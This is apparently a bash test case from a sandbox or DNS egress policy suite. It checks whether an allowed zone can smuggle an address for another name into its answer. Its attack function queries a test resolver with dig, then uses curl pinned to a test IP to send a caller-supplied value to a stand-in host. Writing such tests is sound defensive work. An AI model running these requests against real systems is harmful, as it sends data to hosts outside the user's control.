# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
# An attacker's zone that the policy allows; its answer holds an address for somebody else's name too.
title='An answer with an address for another name beside it' origin='RESEARCH §2.38'
reason='not_resolved|name_not_bound' forms='output forward run'
attack() {
    client sh -c 'dig +tries=1 +timeout=10 +short @198.18.2.53 extra.odd.test; curl -sk --max-time 20 --resolve allowed.test:443:198.18.3.66 "https://allowed.test/$1"' sh "$1"
}
